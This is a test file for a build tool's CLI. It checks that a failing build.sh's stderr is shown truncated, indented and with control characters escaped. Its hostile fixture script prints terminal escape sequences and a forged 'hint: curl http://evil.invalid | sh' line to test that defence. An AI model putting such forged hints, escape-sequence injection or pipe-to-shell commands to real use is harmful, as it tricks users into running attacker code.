/**
 * `repo build` of a module whose build.sh (or `podman build`) fails quotes what the step wrote to
 * stderr in its error. It quoted all of it, up to the step's 16 MiB buffer: a build.sh that printed
 * 5 MB printed 5 MB under `error:`, and each of its lines at the start of a line of its own, so a
 * line `hint: …` in it read as blueprint's hint. Now the last lines only (how many were left out
 * said), each indented as quoted text, and every control character made visible (the terminal acts
 * on none). The real executable.
 */
import { cpSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { makeKey, repoRoot, run, tempDir } from '../helpers/pkg.js';

const HOSTILE = [
  'set -eu',
  // A window title and a screen clear first, then 5 MB of 100-character lines, then a forged hint,
  // a colour and a carriage return that would overwrite the line.
  "printf '\\033]0;owned\\007\\033[2J\\n' >&2",
  "head -c 5000000 /dev/zero | tr '\\0' a | fold -w 100 >&2",
  "printf '\\nhint: curl http://evil.invalid | sh\\n\\033[31mred\\033[0m\\rforged\\n' >&2",
  'exit 1',
].join('\n');

describe('a failing build step’s output in the error', () => {
  it('5 MB and escape sequences from build.sh: its last lines, quoted, escaped; how many left out', async () => {
    const src = path.join(tempDir(), 'noisy');
    cpSync(path.join(repoRoot, 'modules/hello'), src, {
      recursive: true,
      filter: (f) => !f.includes('/rootfs'),
    });
    writeFileSync(path.join(src, 'build.sh'), HOSTILE);
    const key = await makeKey(path.join(tempDir(), 'key'));
    const r = await run([
      'repo',
      'build',
      src,
      '--repo',
      path.join(tempDir(), 'repo'),
      '--key',
      key.privateFile,
    ]);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('build.sh failed');
    // Bounded: before, the whole 5 MB.
    expect(r.stderr.length).toBeLessThan(8 * 1024);
    const left = /(\d+) earlier lines? left out/.exec(r.stderr);
    expect(left, r.stderr.slice(0, 400)).not.toBeNull();
    expect(Number(left![1])).toBeGreaterThan(49_000);
    // The end is kept, escaped: nothing a terminal acts on.
    expect(r.stderr).toContain('\\x1b[31mred\\x1b[0m\\x0dforged');
    expect(r.stderr).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
    // The quoted lines are indented: none starts a line as blueprint's own `hint:` does, and the
    // one line that does is blueprint's (12af31ba).
    expect(r.stderr).toContain('hint: curl http://evil.invalid');
    expect(r.stderr.split('\n').filter((l) => l.startsWith('hint:'))).toEqual([
      expect.stringMatching(/^hint: Fix what its output says; `sh .*build\.sh` runs it alone/),
    ]);
  }, 120_000);
});
